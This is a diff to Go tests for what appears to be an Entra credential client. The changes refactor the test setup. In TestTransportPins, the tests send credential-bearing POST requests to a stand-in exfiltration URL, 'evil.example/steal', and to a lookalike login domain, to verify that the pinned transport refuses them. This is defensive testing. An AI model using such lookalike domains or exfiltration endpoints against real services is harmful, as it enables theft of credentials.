@@ -210,7 +210,7 @@ func TestRegionVariables(t *testing.T) {
 					t.Errorf("%q: %v", authority, err)
 				}
 				for _, r := range entra.seen {
-					if got := r.URL.Scheme + "://" + r.URL.Host; got != c.authority.String() || r.Host != "" {
+					if got := r.URL.Scheme + "://" + r.URL.Host; got != c.cfg.authority.String() || r.Host != "" {
 						t.Errorf("%q: a request went to %s (Host %q)", authority, got, r.Host)
 					}
 				}
@@ -235,7 +235,7 @@ func TestTransportPins(t *testing.T) {
 	t.Parallel()
 	entra := serve(granted("access", 3600, 0))
 	c, _ := credential(t, entra)
-	a := &attempt{credential: c}
+	a := &attempt{federation: &federation{cfg: c.cfg, authority: c.cfg.authority}, tap: tap{do: c.cfg.Do}}
 	for _, target := range []string{"http://evil.example/steal", "https://login.microsoftonline.com.evil.example/x"} {
 		r := httptest.NewRequest("POST", target, strings.NewReader("client_assertion=x"))
 		if _, err := a.Do(r); err != nil {
